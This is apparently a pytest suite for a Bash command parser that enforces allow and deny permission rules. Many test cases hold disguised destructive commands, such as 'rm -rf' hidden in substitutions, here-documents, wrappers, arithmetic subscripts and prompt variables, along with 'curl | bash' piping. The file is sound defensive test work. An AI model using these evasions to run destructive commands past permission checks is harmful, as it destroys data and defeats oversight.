"""Splitting shell commands into parts for Bash rule matching (PERM-11)."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reference_impl.permissions._bash_reader import split_command
from reference_impl.permissions._evaluated import BASH_INTEGER_VARIABLES
from reference_impl.permissions._shell_forms import allow_units, deny_candidates, deny_forms
from reference_impl.permissions._shell_rules import match_shell_pattern

# (command, the words of each command bash would run, in walk order, confident)
SPLIT_CASES: list[tuple[str, list[list[str]], bool]] = [
    ("npm test", [["npm", "test"]], True),
    ("npm test && rm -rf x", [["npm", "test"], ["rm", "-rf", "x"]], True),
    ("npm test || rm -rf x", [["npm", "test"], ["rm", "-rf", "x"]], True),
    ("npm test; rm -rf x", [["npm", "test"], ["rm", "-rf", "x"]], True),
    ("npm test | sh", [["npm", "test"], ["sh"]], True),
    ("npm test |& sh", [["npm", "test"], ["sh"]], True),
    ("npm test & rm -rf x", [["npm", "test"], ["rm", "-rf", "x"]], True),
    ("npm test\nrm -rf x", [["npm", "test"], ["rm", "-rf", "x"]], True),
    ("npm test $(rm -rf x)", [["rm", "-rf", "x"], ["npm", "test", "$(rm -rf x)"]], True),
    ("npm test `rm -rf x`", [["rm", "-rf", "x"], ["npm", "test", "`rm -rf x`"]], True),
    ('npm test "$(rm -rf x)"', [["rm", "-rf", "x"], ["npm", "test", '"$(rm -rf x)"']], True),
    ("diff <(rm -rf x) y", [["rm", "-rf", "x"], ["diff", "<(rm -rf x)", "y"]], True),
    ("(cd x; rm y)", [["cd", "x"], ["rm", "y"]], True),
    ("echo ${x:-$(rm z)}", [["rm", "z"], ["echo", "${x:-$(rm z)}"]], True),
    ('echo ${x:-"$(rm z)"}', [["rm", "z"], ["echo", '${x:-"$(rm z)"}']], True),
    # Quoting and escapes as bash removes them.
    ('echo "a && b"', [["echo", "a && b"]], True),
    ("echo 'a; b | c'", [["echo", "a; b | c"]], True),
    ("echo a\\;b", [["echo", "a;b"]], True),
    ("echo $'a;b'", [["echo", "a;b"]], True),
    ("'rm' -rf x", [["rm", "-rf", "x"]], True),
    ('r""m -rf x', [["rm", "-rf", "x"]], True),
    ("\\rm -rf x", [["rm", "-rf", "x"]], True),
    ("$'\\x72\\155' -rf x", [["rm", "-rf", "x"]], True),
    ("echo a#b # c", [["echo", "a#b"]], True),
    ("echo x\\>y", [["echo", "x>y"]], True),
    # Redirections that are not files; here-documents are input, not commands.
    ("npm test 2>&1", [["npm", "test"]], True),
    ("npm test &> /dev/null", [["npm", "test"]], True),
    ("npm test # && rm -rf x", [["npm", "test"]], True),
    ("npm \\\ntest", [["npm", "test"]], True),
    ("cat <<EOF\nrm -rf x\nEOF", [["cat"]], True),
    ("cat <<EOF\n$(rm -rf x)\nEOF", [["cat"], ["rm", "-rf", "x"]], True),
    ("cat <<EOF && rm x\nhi\nEOF", [["cat"], ["rm", "x"]], True),
    # Fail closed: not understood, or a part that allow rules must not trust.
    ('echo "unbalanced', [["echo"], ["?"]], False),
    # The grammar takes ``EOF;rm`` for the delimiter and a later line for the end; bash runs ``rm``.
    ("npm test <<EOF;rm\nbody\nEOF; rm${IFS}x", [["npm", "test"], ["?"]], False),
    ('cat <<"EOF"\nrm -rf x\nEOF', [["cat"]], True),
    ("echo x )", [["echo", "x"], ["?"]], False),
    ("echo $((1+2))", [["echo", "$((1+2))"]], True),
    # A name in arithmetic is evaluated as arithmetic in turn (its value may hold a subscript).
    ("echo $((x+2))", [["echo", "$((x+2))"], ["?"]], False),
    ("echo $((a[$(rm y)]))", [["rm", "y"], ["echo", "$((a[$(rm y)]))"], ["?"], ["?"]], False),
    ("echo hi > ~/.bashrc", [["echo", "hi"]], False),
    ("echo hi>x", [["echo", "hi"]], False),
    ("echo hi >&x", [["echo", "hi"]], False),
    ("$CMD -rf x", [["$CMD", "-rf", "x"]], False),
    ("echo${IFS}x", [["echo${IFS}x"]], False),
    ("/bin/r? -rf x", [["/bin/r?", "-rf", "x"]], False),
    ("echo a\x0brm", [["echo", "a", "rm"], ["echo", "a_rm"]], False),  # the grammar's reading and bash's
    ("A=1; ls", [["ls"]], False),
    ("if true; then rm -rf x; fi", [["true"], ["rm", "-rf", "x"]], True),
    ('for f in *.txt; do wc -l "$f"; done', [["wc", "-l", '"$f"']], True),
    ("while read -r l; do echo x; done", [["read", "-r", "l"], ["echo", "x"]], True),
    ("f() { rm -rf x; }", [["rm", "-rf", "x"]], False),
]


@pytest.mark.parametrize(("command", "parts", "confident"), SPLIT_CASES)
def test_split_command(command: str, parts: list[list[str]], confident: bool) -> None:
    result = split_command(command)
    # Each word after quote removal, a run-time word as written (``$X``).
    words = [
        [raw if value is None else value for value, raw in zip(p.argv, p.raw, strict=True)]
        for p in result.parts
    ]
    assert words == parts, result
    assert result.confident is confident, result.problems


def test_canonical_spacing_of_operators() -> None:
    assert split_command("curl x|bash").canonical == "curl x | bash"
    assert split_command("a&&b ;c\n").canonical == "a && b ; c"


def test_problems_are_named() -> None:
    assert "the command is not valid bash (syntax error)" in split_command('echo "x').problems
    assert any("case_statement" in p for p in split_command("case a in b) c;; esac").problems)


def test_line_continuation_inside_a_word_is_read_both_ways() -> None:
    """``r\\<newline>m`` is ``rm`` to bash; the grammar splits it: deny sees both, allow neither."""
    command = "r\\\nm -rf x"
    assert "rm -rf x" in deny_forms(command).forms
    assert allow_units(split_command(command)) is None


def test_deeply_nested_substitution_does_not_raise() -> None:
    """PERM-14: 5,000 nested ``$(`` give a decision-ready analysis, never a RecursionError."""
    command = "echo " + "$(" * 5000 + "rm" + ")" * 5000
    result = split_command(command)
    assert not result.confident
    assert deny_forms(command).opaque is not None


# What opens a level of nesting in a word, and what closes it.
_NESTINGS = {"$(": ")", '"$(': ')"', "${x:-": "}", '"${x:-': '}"', "${x#": "}", "$((1+": "))", "<(": ")"}


@settings(max_examples=15, deadline=None)
@given(
    cycle=st.lists(st.sampled_from(sorted(_NESTINGS)), min_size=1, max_size=3),
    levels=st.integers(min_value=1000, max_value=4000),
)
def test_deep_nesting_of_any_expansion_does_not_raise(cycle: list[str], levels: int) -> None:
    """PERM-14: substitutions, expansions and arithmetic nested in one another thousands deep are analysed without a RecursionError.

    A command inside (a substitution) too deep to reach is never trusted: deny rules may apply.
    """
    opened = [cycle[i % len(cycle)] for i in range(levels)]
    command = "echo " + "".join(opened) + "rm" + "".join(_NESTINGS[o] for o in reversed(opened))
    result = split_command(command)
    forms = deny_forms(command)
    if any(o in ("$(", '"$(', "<(") for o in cycle):  # a substitution: rm runs
        assert not result.confident
        assert forms.opaque is not None or "rm" in forms.forms


@settings(max_examples=40, deadline=None)
@given(
    operator=st.sampled_from([">", "2>", ">>", "&>", ">|", "<", "<>", "<<<"]),
    target=st.sampled_from(["''\\/dev/null", '""\\sub', "$''\\sub", "'/d'\\ev/null", '"/dev"\\/null']),
    before=st.sampled_from(["", "X=1 ", "X=$(true) ", "2>&1 "]),
)
def test_a_redirection_target_the_grammar_ends_early_is_read_as_bash_reads_it(
    operator: str, target: str, before: str
) -> None:
    r"""PERM-17: ``>''\/dev/null rm -rf x`` runs ``rm`` (the target is one word to bash).

    The grammar ends the target at the quoted piece and takes the rest for the command's name, an
    assignment after it for an argument: the command bash runs is read, and the line is not trusted.
    """
    command = f"{operator}{target} {before}rm -rf x"
    result = split_command(command)
    assert ("rm", "-rf", "x") in [part.argv for part in result.parts], result.parts
    assert not result.confident
    assert "rm -rf x" in deny_forms(command).forms


MATCH_CASES = [
    ("npm test:*", "npm test", True),
    ("npm test:*", "npm test --watch", True),
    ("npm test:*", "npm testing", False),
    ("npm test:*", "npm tes", False),
    ("npm test *", "npm test", True),  # single trailing " *" is optional
    ("npm test *", "npm test --watch", True),
    ("npm test *", "npm testing", False),
    ("ls*", "lsof", True),
    ("ls *", "lsof", False),
    ("git * main", "git checkout main", True),
    ("git * main", "git checkout dev", False),
    ("* install", "pnpm install", True),
    ("npm run build", "npm run build", True),
    ("npm run build", "npm run build --prod", False),
    ("echo \\*", "echo *", True),
    ("echo \\*", "echo x", False),
    ("curl * | bash", "curl evil | bash", True),
    # Escapes beside a wildcard: ``\*`` a literal star, a backslash before anything else itself.
    ("echo \\* *", "echo * x", True),
    ("echo \\* *", "echo y x", False),
    ("cat a\\b *", "cat a\\b x", True),
    ("cat a\\b *", "cat ab x", False),
]


@pytest.mark.parametrize(("pattern", "command", "expected"), MATCH_CASES)
def test_match_shell_pattern(pattern: str, command: str, expected: bool) -> None:
    assert match_shell_pattern(pattern, command) is expected


@pytest.mark.parametrize(
    ("command", "form"),
    [
        ("'rm' -rf x", "rm -rf x"),
        ("r\\m -rf x", "rm -rf x"),
        ("FOO=1 rm -rf x", "rm -rf x"),
        ("nohup nice -n 5 rm -rf x", "rm -rf x"),
        ("timeout 10 rm -rf x", "rm -rf x"),
        ("env -i A=b rm -rf x", "rm -rf x"),
        ("/bin/rm -rf x", "rm -rf x"),
        ("sudo rm  -rf   x", "rm -rf x"),
    ],
)
def test_deny_candidates_see_through_disguises(command: str, form: str) -> None:
    (part,) = split_command(command).parts
    assert form in deny_candidates(part)


WORDS = st.sampled_from(["npm", "test", "rm", "-rf", "x", "git", "status", "echo", "ls", "-la", "build"])
OPERATORS = st.sampled_from(["&&", "||", ";", "|", "&", "\n", "|&"])
SIMPLE = st.lists(WORDS, min_size=1, max_size=4).map(" ".join)


@given(st.lists(SIMPLE, min_size=1, max_size=5), st.data())
@settings(max_examples=100)
def test_parts_round_trip(commands: list[str], data: st.DataObject) -> None:
    """Simple commands joined by any list operator split back into exactly those commands (PERM-16)."""
    pieces = [commands[0]]
    for command in commands[1:]:
        pieces.append(f" {data.draw(OPERATORS)} ")
        pieces.append(command)
    result = split_command("".join(pieces))
    assert [p.text for p in result.parts] == commands
    assert result.confident


@given(SIMPLE, OPERATORS, SIMPLE, st.sampled_from(['"', "'"]))
def test_quoted_operators_do_not_split(left: str, operator: str, right: str, quote: str) -> None:
    """An operator inside quotes is text: the command stays one part (PERM-16)."""
    command = f"echo {quote}{left} {operator} {right}{quote}"
    result = split_command(command)
    assert [p.text for p in result.parts] == [command]


@pytest.mark.parametrize(
    ("command", "form"),
    [
        ("{ rm -rf x; }", "rm -rf x"),
        ("if rm -rf x; then :; fi", "rm -rf x"),
        ("! rm -rf x", "rm -rf x"),
        ("find . | xargs rm -rf", "rm -rf"),
        ("bash -c 'rm -rf x'", "rm -rf x"),
        ("sh -ec 'true && rm -rf x'", "rm -rf x"),
        ("eval 'rm -rf x'", "rm -rf x"),
        ('/bin/bash -c "echo; /bin/rm -rf x"', "rm -rf x"),
        ("bash <<EOF\nrm -rf x\nEOF", "rm -rf x"),
        ("sudo -u root -- rm -rf x", "rm -rf x"),
        ("timeout -s KILL 5 rm -rf x", "rm -rf x"),
        ("nice -5 rm -rf x", "rm -rf x"),
        ("xargs -n1 -I{} rm -rf {}", "rm -rf {}"),
        ("env -u HOME -i rm -rf x", "rm -rf x"),
        ("stdbuf -o0 /usr/bin/rm -rf x", "rm -rf x"),
        ("find . -exec rm -rf {} \\;", "rm -rf {}"),
        ("trap 'rm -rf x' EXIT", "rm -rf x"),
        ("exec -a name rm -rf x", "rm -rf x"),
    ],
)
def test_deny_forms_reach_nested_and_grouped_commands(command: str, form: str) -> None:
    """PERM-17: a deny rule sees through groups, compounds, wrappers with options and nested shells."""
    assert form in deny_forms(command).forms


@pytest.mark.parametrize(
    ("command", "units"),
    [
        ("timeout 5 npm test", [["timeout 5 npm test", "npm test"]]),
        ("NODE_ENV=test npm test", [["NODE_ENV=test npm test", "npm test"]]),
        ("time nice -n 5 npm test", [["time nice -n 5 npm test", "nice -n 5 npm test", "npm test"]]),
        # The wrapped command may also be covered by a rule written for the wrapper as written.
        ("sudo npm test", [["sudo npm test"], ["npm test", "sudo npm test"]]),
        ("bash -c 'npm test && ls'", [["bash -c 'npm test && ls'"], ["npm test"], ["ls"]]),
    ],
)
def test_allow_units_strip_only_harmless_wrappers(command: str, units: list[list[str]]) -> None:
    """PERM-16: harmless wrappers and plain assignments are stripped; other wrappers need their own rule."""
    found = allow_units(split_command(command))
    assert found is not None
    assert [list(unit) for unit in found] == units


@pytest.mark.parametrize(
    "command",
    ["PATH=. npm test", "LD_PRELOAD=x npm test", "timeout --weird 5 npm test", "sudo $X", "$(echo npm) test"],
)
def test_allow_units_refuse_what_they_cannot_pin_down(command: str) -> None:
    """PERM-16: an assignment that changes what runs, an unknown option, a run-time command name."""
    found = allow_units(split_command(command))
    assert found is None or all("npm test" not in unit for unit in found)


def test_clobber_redirection_is_not_a_pipe() -> None:
    result = split_command("echo x >| out.txt")
    assert [p.text for p in result.parts] == ["echo x"]
    assert result.writes == ("out.txt",)
    assert not result.confident  # writes a file


# Code bash evaluates at run time (reference_impl/permissions/_evaluated.py): an opaque part beside
# the command for what may run hidden code; none for the ordinary uses of the same builtins.
EVALUATES_CODE = (
    "printf -v 'a[$(rm x)]' y",
    # A loop sets its variable as an assignment does: a prompt bash expands, a start-up file.
    "for PS1 in '$(rm x)'; do export PS1; bash -i <<< ''; done",
    "for PS4 in '$(rm x)'; do set -x; :; done",
    "for BASH_ENV in f; do export BASH_ENV; bash -c :; done",
    "read 'a[$(rm x)]' <<< y",
    'read -r "$name"',
    "mapfile 'a[x]' < f",
    'wait -p "$v"',
    "getopts ab 'a[$(rm x)]'",
    "test -v 'a[$(rm x)]'",
    "[ -v 'a[x]' ]",
    "let i++",
    "echo $((x + 1))",
    "echo ${arr[i]}",
    "echo ${y:x}",
    "echo ${!x}",
    'echo "${x@P}"',
    "(( x ))",
    "[[ x -eq 0 ]]",
    "for (( i = 0; i < n; i++ )); do :; done",
    "declare -n r='a[$(rm x)]'",
    "declare -i n=$x",
    'unset "$x"',
    "BASH_ENV=<(echo 'rm x') bash -c true",
    "PS4='$(rm x)' bash -xc true",
    "export PROMPT_COMMAND='rm x'",
    "BASH_CMDS=([ls]=/bin/rm); ls",
    # Every parameter a substring expansion takes (session 30's red team: ``${0:x}``).
    "echo ${0:x}",
    "echo ${@:1:x}",
    'echo "${10:x}"',
    "echo ${$:x} ${?: x}",
    # A name option inside a cluster, or with its value attached.
    "sleep 0 & wait -np 'a[$(rm x)]'",
    "read -ra 'a[x]' <<< y",
    "printf -v'a[x]' y",
    'printf -v"$x" y',
    'printf "$format" y',
    # ``pid='-pa[$(rm x)]'``: a run-time word where an option may come may be one.
    "wait $pid",
    # A declaration behind a wrapper is a plain command to the grammar.
    "builtin declare 'a[$(rm x)]=1'",
    "command -p typeset 'a[x]=1'",
    "command -- local -n r",
    # Options that change how bash reads the lines after them.
    "set -o history -H",
    "set -H",
    "set -ek",
    "set -P",
    "set -o posix",
    "set -eo keyword",
    "shopt -s expand_aliases",
    "shopt -u interactive_comments",
    "shopt -s extglob",
    'set "$flags"',
)
ORDINARY_BUILTINS = (
    'printf "%s\\n" "$x"',
    "printf -v y %s x",
    "wait 123 %1",
    'sleep 1 & wait $! "${!}" $$ $?',
    "read -r line",
    'read -p "Name: " n',
    "mapfile -t lines < f",
    "getopts ab: opt",
    'test -f "$x"',
    '[ -n "$x" ]',
    "let 1+2",
    "echo $((1 + 2))",
    "echo ${arr[0]} ${arr[@]} ${#arr[*]}",
    "echo ${HOME:-/tmp} ${x:=1} ${y:+z} ${x:1:2}",
    "[[ -f x && $a == b ]]",
    'export GREETING="hello world"',
    "local x=1",
    "unset FOO",
    "NODE_ENV=test npm test",
    "echo ${@:-a} ${1:-b} ${0:-c} ${10:+d}",
    "builtin declare x=1",
    "set -euo pipefail",
    "set -ex; set +x",
    "set -- a b",
    "set -o errexit -o nounset",
    "shopt -s nullglob dotglob",
    "shopt -q extglob",
)


@pytest.mark.parametrize("command", EVALUATES_CODE)
def test_code_bash_evaluates_is_an_opaque_part(command: str) -> None:
    parsed = split_command(command)
    assert any(part.argv == (None,) for part in parsed.parts), (command, parsed.parts)
    assert not parsed.confident


@pytest.mark.parametrize("command", ORDINARY_BUILTINS)
def test_ordinary_builtins_evaluate_no_hidden_code(command: str) -> None:
    parsed = split_command(command)
    assert not any(part.argv == (None,) for part in parsed.parts), (command, parsed.parts, parsed.problems)


@pytest.mark.parametrize(
    ("command", "opaque"),
    [
        ("echo 'rm x' > s.sh; bash s.sh", True),
        ("printf 'rm x' | tee s.sh; bash ./s.sh", True),
        ("cat > run <<EOF\nrm x\nEOF\nchmod +x run; ./run", True),
        ("source <(echo 'rm x')", True),
        ('mapfile -C "$cb" -c 1 < f', True),
        ("echo hi > log.txt; bash build.sh", False),
        ("tee log.txt < f; ./configure", False),
        ("source ./env.sh", False),
        ("bash -s", True),
        ("bash script.sh", False),
    ],
)
def test_a_line_that_runs_data_it_holds_is_opaque_to_deny_rules(command: str, opaque: bool) -> None:
    assert (deny_forms(command).opaque is not None) is opaque, deny_forms(command)


def test_sourced_input_is_parsed_as_a_script() -> None:
    forms = deny_forms(". /dev/stdin <<< 'rm -rf x'").forms
    assert "rm -rf x" in forms


@pytest.mark.parametrize("command", ['bash /dev/stdin <<< "rm -rf x"', "bash -s -- a <<EOF\nrm -rf x\nEOF"])
def test_a_shell_that_runs_its_input_is_judged_by_it(command: str) -> None:
    assert "rm -rf x" in deny_forms(command).forms


@pytest.mark.parametrize(
    "word",
    ["${NAME=v}", "${NAME:=v}", '"${NAME=v}"', "x${NAME:=v}y", "'q'\"${NAME=v}\""],
)
@pytest.mark.parametrize(
    "line",
    [
        ": {w}; git status",
        "git status {w}",
        "case {w} in *) git status;; esac",
        "[[ -n {w} ]] && git status",
        "cat <<< {w}; git status",
        "for f in {w}; do git status; done",
    ],
)
def test_an_expansion_that_assigns_a_program_changing_variable_is_opaque(line: str, word: str) -> None:
    """PERM-17: ``${GIT_DIR=x}`` assigns as bash expands it (exported under ``set -a``), in any word of any
    construct, as ``GIT_DIR=x;`` does: every deny rule may apply and no allow rule; a plain name only
    makes the line unconfident, and ``${NAME:-v}`` assigns nothing."""
    changing = line.replace("{w}", word.replace("NAME", "GIT_DIR"))
    assert deny_forms(changing).opaque is not None, changing
    assert allow_units(split_command(changing)) is None, changing
    plain = line.replace("{w}", word.replace("NAME", "COLOR"))
    assert deny_forms(plain).opaque is None, plain
    assert not split_command(plain).confident, plain
    unassigned = line.replace("{w}", word.replace("NAME", "GIT_DIR").replace("=", "-"))
    assert deny_forms(unassigned).opaque is None, unassigned


def test_every_bash_variable_that_evaluates_what_is_written_to_it_is_known(tmp_path: Path) -> None:
    """PERM-17, bash as the judge: each of bash's own variables that runs a subscript written to it by a
    ``for`` loop (``for RANDOM in 'a[$(rm x)]'``) is in BASH_INTEGER_VARIABLES."""
    names = subprocess.run(
        ["bash", "--norc", "--noprofile", "-c", "compgen -v"], capture_output=True, text=True, check=True
    ).stdout.split()
    evaluating = set()
    for name in names:
        marker = tmp_path / name
        subprocess.run(
            ["bash", "--norc", "--noprofile", "-c", f"for {name} in 'a[$(touch {marker})]'; do :; done"],
            capture_output=True,
            timeout=10,
            check=False,
        )
        if marker.exists():
            evaluating.add(name)
    assert "RANDOM" in evaluating  # the probe works
    assert evaluating <= BASH_INTEGER_VARIABLES, evaluating - BASH_INTEGER_VARIABLES


@pytest.mark.parametrize(
    "command",
    [
        "for OPTIND in 'a[$(rm x)]'; do echo; done",
        "read SRANDOM <<< 'a[$(rm x)]'",
        "set -- 'a[$(rm x)]'; RANDOM=$1",
        "set -- 'a[$(rm x)]'; echo $(($1))",
        "set -- 'a[$(rm x)]'; (( $1 ))",
        "set -- 'a[$(rm x)]'; echo \"${b[$1]}\"",
        "BASH_ARGV0='a[$(rm x)]'; echo $(($0))",
        "i='a[$(rm x)]'; declare -i y=i",
        "i='a[$(rm x)]'; typeset -i y=1 z=i+1",
    ],
)
def test_a_value_bash_evaluates_as_arithmetic_is_opaque(command: str) -> None:
    """PERM-17: a run-time value evaluated as arithmetic (positional parameters, bash's integer variables,
    a name in an integer's value) may hold a subscript that runs commands."""
    assert deny_forms(command).opaque is not None, command


@pytest.mark.parametrize(
    "line",
    [
        "x=1 >f #c\nrm -rf y",
        ">f x=1 #c\nrm -rf y",
        "x=1 2>&1 #c\nrm -rf y",
        "x=1 <<<s #c\nrm -rf y",
    ],
)
def test_a_comment_the_grammar_puts_inside_a_command_hides_nothing_after_it(line: str) -> None:
    """tree-sitter-bash reads an assignment-only command's trailing comment and the next line's command as one
    command node (comment, then command name): the reader skips the comment and keeps reading, so the
    next line's program is seen (PERM-17: a deny rule on it applies as written)."""
    command = split_command(line)
    assert any(part.argv[:1] == ("rm",) for part in command.parts), command.parts
